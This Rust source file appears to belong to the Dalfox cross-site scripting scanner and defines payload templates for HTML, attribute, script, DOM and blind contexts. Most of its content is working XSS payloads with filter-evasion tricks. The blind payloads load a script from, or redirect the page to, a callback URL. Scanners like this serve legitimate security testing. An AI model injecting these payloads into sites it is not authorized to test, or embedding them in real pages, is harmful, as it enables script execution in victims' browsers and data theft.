//! Payload templates. `DALFOX_ALERT_VALUE` is substituted at dispatch time and
//! `CALLBACKURL` is replaced by the blind callback.

use crate::analyze::context::QuotePosition;

pub const ALERT_PLACEHOLDER: &str = "DALFOX_ALERT_VALUE";
pub const CALLBACK_PLACEHOLDER: &str = "CALLBACKURL";
const FUNC_PLACEHOLDER: &str = "DALFOX_FUNC_VALUE";

pub fn common() -> Vec<String> {
    [
        "\"><SvG/onload=alert(DALFOX_ALERT_VALUE) id=dalfox>",
        "\"><Svg/onload=alert(DALFOX_ALERT_VALUE) class=dalfox>",
        "'><sVg/onload=alert(DALFOX_ALERT_VALUE) id=dalfox>",
        "'><sVg/onload=alert(DALFOX_ALERT_VALUE) class=dalfox>",
        "</ScriPt><sCripT id=dalfox>alert(DALFOX_ALERT_VALUE)</sCriPt>",
        "</ScriPt><sCripT class=dalfox>alert(DALFOX_ALERT_VALUE)</sCriPt>",
        "\"><a href=javas&#99;ript:alert(DALFOX_ALERT_VALUE)/class=dalfox>click",
        "'><a href=javas&#99;ript:alert(DALFOX_ALERT_VALUE)/class=dalfox>click",
        "'><svg/class='dalfox'onLoad=alert(DALFOX_ALERT_VALUE)>",
        "\"><iFrAme/src=jaVascRipt:alert(DALFOX_ALERT_VALUE) class=dalfox></iFramE>",
        "\"><svg/class=\"dalfox\"onLoad=alert(DALFOX_ALERT_VALUE)>",
        "'\"><img/src/onerror=.1|alert`` class=dalfox>",
        "\"><img/src/onerror=.1|alert`` class=dalfox>",
        "'><img/src/onerror=.1|alert`` class=dalfox>",
        "\"><img src=x onerror=\"setTimeout('alert(DALFOX_ALERT_VALUE)',1)\" class=dalfox>",
        "\"><svg onload=\"globalThis.alert(DALFOX_ALERT_VALUE)\" class=dalfox>",
        "><details open ontoggle=alert(DALFOX_ALERT_VALUE) class=dalfox></details>",
        "'\"><iframe srcdoc=\"<input onauxclick=alert(DALFOX_ALERT_VALUE)>\" class=dalfox></iframe>",
        "<xmp><p title=\"</xmp><svg/onload=alert(DALFOX_ALERT_VALUE)>",
        "\"><a href=\"javascript&colon;alert(DALFOX_ALERT_VALUE)\">click",
        "\">asd",
        "'>asd",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

/// Tag-injection payloads for text context.
pub fn html(quote: QuotePosition) -> Vec<String> {
    let funcs = ["alert", "confirm", "prompt", "alert.bind()", "confirm.call()", "print"];
    let patterns = [
        "<sVg/onload=DALFOX_FUNC_VALUE(DALFOX_ALERT_VALUE) class=dalfox>",
        "<ScRipt class=dalfox>DALFOX_FUNC_VALUE(DALFOX_ALERT_VALUE)</script>",
        "<iframe srcdoc=\"<input onauxclick=DALFOX_FUNC_VALUE(DALFOX_ALERT_VALUE)>\" class=dalfox></iframe>",
        "<audio controls ondurationchange=DALFOX_FUNC_VALUE(DALFOX_ALERT_VALUE) id=dalfox><source src=1.mp3 type=audio/mpeg></audio>",
        "<iFrAme/src=jaVascRipt:DALFOX_FUNC_VALUE(DALFOX_ALERT_VALUE) class=dalfox></iFramE>",
        "<xmp><p title=\"</xmp><svg/onload=DALFOX_FUNC_VALUE(DALFOX_ALERT_VALUE) class=dalfox>",
        "<details ontoggle=DALFOX_FUNC_VALUE(DALFOX_ALERT_VALUE) class=dalfox open><summary>XSS</summary></details>",
        "<dialog open onclose=DALFOX_FUNC_VALUE(DALFOX_ALERT_VALUE) class=dalfox>XSS</dialog>",
        "<sVg/onload=DALFOX_FUNC_VALUE(DALFOX_ALERT_VALUE)>",
        "<dalfox class=dalfox>",
    ];
    let mut out = Vec::new();
    for p in patterns {
        if p.contains(FUNC_PLACEHOLDER) {
            out.extend(funcs.iter().map(|f| p.replace(FUNC_PLACEHOLDER, f)));
        } else {
            out.push(p.to_string());
        }
    }
    if quote == QuotePosition::Comment {
        out.push("--><svg/onload=alert(DALFOX_ALERT_VALUE)>".into());
        out.push("--><script>confirm(DALFOX_ALERT_VALUE)</script>".into());
    }
    out
}

/// Attribute breakout payloads: new event handlers, or closing the tag and
/// dropping into the HTML set. Prefixed with the quote that must be closed.
pub fn attr(quote: QuotePosition) -> Vec<String> {
    let handlers = [
        "onload",
        "onerror",
        "onmouseover",
        "onmouseenter",
        "onpointerenter",
        "onpointerdown",
        "onfocus autofocus",
        "ontouchstart",
    ];
    let calls = ["alert(DALFOX_ALERT_VALUE)", "confirm(DALFOX_ALERT_VALUE)", "prompt.call(null,DALFOX_ALERT_VALUE)"];

    let mut base = vec![
        "onpointerenter=prompt`DALFOX_ALERT_VALUE` class=dalfox ".to_string(),
        "onmouseleave=confirm(DALFOX_ALERT_VALUE) class=dalfox ".to_string(),
    ];
    for h in handlers {
        let (name, extra) = match h.split_once(' ') {
            Some((n, e)) => (n, format!(" {}", e)),
            None => (h, String::new()),
        };
        for c in calls {
            base.push(format!("{}={}{} class=dalfox ", name, c, extra));
        }
    }
    for h in html(QuotePosition::None) {
        base.push(format!(">{}", h));
        base.push(format!("\">{}", h));
        base.push(format!("'\">{}", h));
        base.push(format!("&#x27;>{}", h));
    }

    match quote {
        QuotePosition::Double => base.into_iter().map(|p| format!("\"{}", p)).collect(),
        QuotePosition::Single => base.into_iter().map(|p| format!("'{}", p)).collect(),
        _ => base,
    }
}

const JS_CORE: &[&str] = &[
    "alert(DALFOX_ALERT_VALUE)",
    "confirm(DALFOX_ALERT_VALUE)",
    "prompt(DALFOX_ALERT_VALUE)",
    "print(DALFOX_ALERT_VALUE)",
    "alert.call(null,DALFOX_ALERT_VALUE)",
    "confirm.apply(null,[DALFOX_ALERT_VALUE])",
    "window['ale'+'rt'](window['doc'+'ument']['dom'+'ain'])",
    "top[/al/.source+/ert/.source](/XSS/.source)",
    "this[/*foo*/'alert'/*bar*/](this[/*foo*/'document'/*bar*/]['domain'])",
    "{{toString().constructor.constructor('alert(DALFOX_ALERT_VALUE)')()}}",
];

/// In-script payloads that stay inside the script block, wrapped to escape
/// the current quote.
pub fn in_js(quote: QuotePosition) -> Vec<String> {
    let mut out = Vec::new();
    for v in JS_CORE {
        match quote {
            QuotePosition::Double | QuotePosition::Single => {
                let q = quote.quote_char().unwrap_or('"');
                for lead in [q.to_string(), format!("\\{}", q)] {
                    out.push(format!("{}+{}//", lead, v));
                    out.push(format!("{};{}//", lead, v));
                    out.push(format!("{}+{}+{}", lead, v, q));
                    out.push(format!("{}-{}-{}", lead, v, q));
                }
            }
            QuotePosition::Backtick => out.push(format!("${{{}}}", v)),
            _ => {
                out.push(format!(";{};//", v));
                out.push(format!(";{};", v));
                out.push(v.to_string());
            }
        }
    }
    out
}

/// Leave the script block entirely and inject a fresh tag.
pub fn in_js_break_script() -> Vec<String> {
    [
        "</sCRipt><sVg/onload=alert(DALFOX_ALERT_VALUE)>",
        "</scRiPt><sVG/onload=confirm(DALFOX_ALERT_VALUE)>",
        "</sCrIpt><SVg/onload=prompt(DALFOX_ALERT_VALUE)>",
        "</sCriPt><ScRiPt>alert(DALFOX_ALERT_VALUE)</sCrIpt>",
        "</scRipT><sCrIpT>confirm(DALFOX_ALERT_VALUE)</SCriPt>",
        "</sCRipt><sVg/onload=alert(DALFOX_ALERT_VALUE) class=dalfox>",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

/// Navigated in the headless browser; success is a dialog, not a DOM marker.
pub fn dom() -> Vec<String> {
    [
        "<img/src/onerror=.1|alert`DALFOX_ALERT_VALUE`>",
        ";alert(DALFOX_ALERT_VALUE);",
        "javascript:alert(DALFOX_ALERT_VALUE)",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

pub fn blind() -> Vec<String> {
    [
        "\"'><script src=CALLBACKURL></script>",
        "\"'><svg onload=\"javascript:eval('d=document; _ = d.createElement(\\'script\\');_.src=\\'CALLBACKURL\\'%3Bd.body.appendChild(_)')\" xmlns=\"http://www.w3.org/2000/svg\"></svg>",
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+document.location=`CALLBACKURL`//'>",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

/// Normalizes a callback for embedding: scheme-less hosts become protocol-relative.
pub fn callback_target(blind_url: &str) -> String {
    if blind_url.starts_with("https://") || blind_url.starts_with("http://") {
        blind_url.to_string()
    } else {
        format!("//{}", blind_url)
    }
}

pub fn with_callback(template: &str, blind_url: &str) -> String {
    template.replace(CALLBACK_PLACEHOLDER, &callback_target(blind_url))
}

/// Expands the alert placeholder. `str` yields quoted variants, `none` the raw value.
pub fn with_alert(template: &str, value: &str, alert_type: &str) -> Vec<String> {
    if !template.contains(ALERT_PLACEHOLDER) {
        return vec![template.to_string()];
    }
    let mut out = Vec::new();
    for kind in alert_type.split(',').map(str::trim) {
        match kind {
            "str" => {
                out.push(template.replace(ALERT_PLACEHOLDER, &format!("\"{}\"", value)));
                out.push(template.replace(ALERT_PLACEHOLDER, &format!("'{}'", value)));
            }
            "none" => out.push(template.replace(ALERT_PLACEHOLDER, value)),
            _ => {}
        }
    }
    if out.is_empty() {
        out.push(template.replace(ALERT_PLACEHOLDER, value));
    }
    out.dedup();
    out
}
